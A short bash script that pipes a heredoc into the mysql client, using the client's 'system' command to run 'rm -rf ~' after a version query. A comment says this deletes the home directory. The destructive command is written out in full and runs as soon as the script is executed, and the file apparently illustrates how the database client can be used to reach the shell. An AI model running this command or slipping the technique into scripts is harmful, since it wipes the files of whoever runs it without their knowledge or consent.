#!/bin/bash
# Feeds the mysql client a script on its stdin: its `system` command runs
# a shell command, here one that deletes the home directory.
mysql --batch <<'SQL'
SELECT VERSION();
system rm -rf ~
SQL
